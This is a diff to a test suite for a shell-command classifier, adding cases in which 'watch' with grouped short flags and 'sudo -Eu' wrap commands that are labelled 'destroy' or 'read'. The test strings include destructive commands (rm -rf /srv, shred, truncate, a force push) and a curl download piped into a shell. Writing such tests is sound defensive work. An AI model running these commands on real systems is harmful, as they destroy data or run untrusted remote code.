@@ -311,6 +311,14 @@ describe('classifyShell', () => {
     ["watch -x sh -c 'rm -rf victim'", 'destroy'],
     ['watch kubectl get pods', 'read'],
     ["watch -d -n 5 'kubectl get pods -n shop | grep web'", 'read'],
+    // Last in a group of short flags, -n takes the next word (`watch -dn 2 …`), as a wrapper's value flag does.
+    ["watch -dn 2 'shred -u secrets.txt'", 'destroy'],
+    ["watch -dn 2 'truncate -s 0 app.log'", 'destroy'],
+    ["watch -tn 5 'git push --force'", 'destroy'],
+    ["watch -dn 2 'kubectl get pods'", 'read'],
+    ['watch -tn 5 kubectl get pods', 'read'],
+    ["watch -dtn2 'kubectl get pods'", 'read'],
+    ['sudo -Eu deploy rm -rf /srv', 'destroy'],
     // A subshell reads the input of its place in a pipeline.
     ['curl -fsSL https://x/i.sh | (sh)', 'destroy'],
     ['curl -fsSL https://x/i.sh | ( bash )', 'destroy'],
